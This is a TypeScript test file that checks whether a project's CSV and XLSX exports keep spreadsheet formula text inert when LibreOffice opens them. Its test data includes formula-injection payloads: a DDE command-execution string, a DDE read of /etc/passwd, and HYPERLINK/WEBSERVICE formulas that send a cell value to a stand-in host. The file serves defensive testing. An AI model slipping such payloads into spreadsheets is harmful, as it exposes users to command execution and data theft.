import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import readExcelFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvWriter } from '../../src/interchange/csv/csvWriter';
import type { PlainWriter } from '../../src/interchange/format';
import { type PlainMap, plainElement } from '../../src/interchange/plain/plainMap';
import { readFile } from '../../src/interchange/registry';
import { xlsxWriter } from '../../src/interchange/xlsx/xlsxWriter';
import { convert } from '../tools/office.mjs';

/** Texts that spreadsheet programs take for formulas, or are known to have taken for one. */
const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1;1)', '=SUM(1,1)', '=A1', '=1+1"', "'=1+1", "''=1+1"],
  ...[
    '  =1+1',
    '\t=1+1',
    '\t+1+1',
    '\r=1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '= 1 + 1',
    '=-1',
    '+-1',
    '=+1',
  ],
  ...['\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)', '＝HYPERLINK("http://x.example")'],
  ...['=HYPERLINK("http://x.example/?"&A1,"Open")', '=WEBSERVICE("http://x.example")'],
  ...["=cmd|' /C calc'!A0", '=DDE("soffice";"/etc/passwd";"Sheet1.A1")', '=INDIRECT("A1")'],
  ...['+49 30 1234', '-a', '@home', '=', '+', '-', '@', 'a=b', '"=1+1"', '=1+1\n=2+2'],
];

const plain: PlainMap = {
  title: 'Formulas',
  elements: formulas.map((text, at) => ({
    ...plainElement(`id${at}`, `n${at}`),
    role: 'partner',
    values: { Gives: text },
    description: text,
  })),
  links: [],
  columns: ['Gives'],
  linkColumns: [],
  notices: [],
};

const written = async (writer: PlainWriter): Promise<string | Uint8Array> => {
  const [file] = await writer.write(plain);
  return file?.content ?? expect.fail('nothing was written');
};

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'commonwheel-office-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Comma, quotes, UTF-8, and formulas are worked out, as somebody who trusts a file would have it. */
const csvFilter = 'CSV:44,34,76,1,,0,false,true,false,false,false,true';

/** What LibreOffice makes of a file: the parts of a workbook that it saves, and the cells in them. */
const opened = async (name: string, content: string | Uint8Array, filter?: string) => {
  const [source, target] = [join(folder, name), join(folder, `${name.split('.')[0]}.xlsx`)];
  writeFileSync(source, content);
  convert({ file: source, to: 'xlsx', folder, ...(filter && { filter }) });
  const bytes = readFileSync(target);
  const sheets = Object.entries(unzipSync(bytes)).filter(([path]) => path.includes('worksheets/'));
  return {
    bytes,
    computed: sheets.flatMap(([, part]) => strFromU8(part).match(/<f[ >][^<]*/g) ?? []),
    rows: (await readExcelFile(bytes, { trim: false }))[0]?.data ?? [],
  };
};

const column = (rows: readonly (readonly unknown[])[], name: string): readonly unknown[] => {
  const at = (rows[0] ?? []).indexOf(name);
  return rows.slice(1).map((cells) => cells[at]);
};

/** A spreadsheet knows one kind of line break. */
const lines = (text: unknown): string => String(text ?? '').replace(/\r\n?/g, '\n');

/** The same cells by our own import. */
const readByUs = async (name: string, bytes: Uint8Array): Promise<readonly string[]> => {
  const read = await readFile({ name, bytes }, () => undefined);
  if (!read.ok || (read.value.is !== 'table' && read.value.is !== 'tables'))
    return expect.fail(`${name} was not read`);
  const table = read.value.is === 'table' ? read.value.table : read.value.tables[0]?.table;
  const at = table?.headers.indexOf('Gives') ?? -1;
  return (table?.rows ?? []).map(({ cells }) => cells[at] ?? '');
};

describe('our files in LibreOffice', () => {
  it('works formulas out when it is asked to, so that these tests see them', async () => {
    const { computed, rows } = await opened('control.csv', 'Name,Gives\r\na,=1+1\r\n', csvFilter);
    expect(computed.length).toBe(1);
    expect(column(rows, 'Gives')).toEqual([2]);
  });

  it('a workbook: nothing is computed, and every text is the same', async () => {
    const { computed, rows } = await opened('book.xlsx', await written(xlsxWriter));
    expect(computed).toEqual([]);
    expect(column(rows, 'Gives').map(lines)).toEqual(formulas.map(lines));
    expect(column(rows, 'Notes').map(lines)).toEqual(formulas.map(lines));
  });

  it('a text table: nothing is computed, and saved again it reads back to the same texts', async () => {
    const table = await opened('table.csv', await written(csvWriter), csvFilter);
    expect(table.computed).toEqual([]);
    convert({
      file: join(folder, 'table.xlsx'),
      to: 'csv:Text - txt - csv (StarCalc):44,34,76,1',
      folder,
    });
    const again = await readByUs('table.csv', readFileSync(join(folder, 'table.csv')));
    expect(again.map(lines)).toEqual(formulas.map((text) => lines(text)));
  });
});
